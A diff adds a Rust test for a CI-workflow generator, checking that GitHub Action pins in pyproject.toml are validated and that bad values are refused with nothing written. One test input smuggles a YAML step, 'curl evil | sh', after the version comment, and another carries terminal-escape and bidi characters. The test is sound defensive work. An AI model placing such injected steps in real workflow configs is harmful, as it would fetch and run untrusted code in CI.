@@ -340,3 +340,86 @@ fn finding_8_unicode_line_separators_are_refused_in_text_values() {
     );
     assert_refused(&project, &["update"], "may not contain newlines");
 }
+
+/// Issue 20, item 9: `[tool.gpu-ci.actions]` values are checked as `pin` checks GitHub's
+/// answers (40 lowercase hex digits, a `vX.Y.Z` comment) before anything is written; the
+/// error names the key and shows the value escaped. init and update both refuse.
+#[test]
+fn issue_20_action_pins_in_the_config_are_checked_before_anything_is_written() {
+    let good = "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2";
+    let bad = [
+        // Upper case: `pin` writes lower case, and GitHub names commits so.
+        (
+            "11BD71901BBE5B1630CEEA73D27597364C9AF683 # v4.2.2",
+            "11BD71901BBE5B1630CEEA73D27597364C9AF683 # v4.2.2",
+        ),
+        // A branch, not a version.
+        ("11bd71901bbe5b1630ceea73d27597364c9af683 # main", "# main"),
+        // A line of YAML after the comment.
+        (
+            "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\n      - run: curl evil | sh",
+            "v4.2.2\\n      - run: curl evil | sh",
+        ),
+        // A terminal escape and a bidi override in the version.
+        (
+            "11bd71901bbe5b1630ceea73d27597364c9af683 # v4\\u001b[2J\\u202e",
+            "v4\\u{1b}[2J\\u{202e}",
+        ),
+        ("11bd719 # v4.2.2", "11bd719 # v4.2.2"),
+    ];
+    for (value, shown) in bad {
+        let project = Project::fixture("uv-groups-src");
+        let text = project.read("pyproject.toml");
+        let config = format!(
+            "{text}\n[tool.gpu-ci.actions]\n\"actions/checkout\" = \"{value}\"\n\"actions/setup-python\" = \"{good}\"\n"
+        );
+        project.write("pyproject.toml", &config);
+        let before = project.snapshot_tree();
+        let output = project
+            .gpu_ci(&["init", "--yes"])
+            .code(2)
+            .get_output()
+            .clone();
+        let stderr = String::from_utf8(output.stderr).unwrap();
+        assert!(
+            stderr.starts_with("error: `actions.\"actions/checkout\"` = `")
+                && stderr.contains(shown)
+                && stderr.contains("is not a pin"),
+            "{value}:\n{stderr}"
+        );
+        assert!(
+            !stderr.contains('\u{1b}') && !stderr.contains('\u{202e}'),
+            "{stderr:?}"
+        );
+        assert_eq!(before, project.snapshot_tree(), "init wrote: {value}");
+
+        // The same value in a project that is set up: update refuses, nothing changes.
+        let project = Project::initialised("uv-groups-src");
+        let text = project.read("pyproject.toml");
+        project.write(
+            "pyproject.toml",
+            &format!("{text}\n[tool.gpu-ci.actions]\n\"actions/checkout\" = \"{value}\"\n"),
+        );
+        let before = project.snapshot_tree();
+        project
+            .gpu_ci(&["update"])
+            .code(2)
+            .stderr(predicate::str::contains(
+                "error: `actions.\"actions/checkout\"` = `",
+            ));
+        assert_eq!(before, project.snapshot_tree(), "update wrote: {value}");
+    }
+    // The good value passes, and reaches the workflows as written.
+    let project = Project::fixture("uv-groups-src");
+    let text = project.read("pyproject.toml");
+    project.write(
+        "pyproject.toml",
+        &format!("{text}\n[tool.gpu-ci.actions]\n\"actions/checkout\" = \"{good}\"\n"),
+    );
+    project.gpu_ci(&["init", "--yes"]).success();
+    assert!(
+        project
+            .read(REUSABLE)
+            .contains(&format!("actions/checkout@{good}"))
+    );
+}
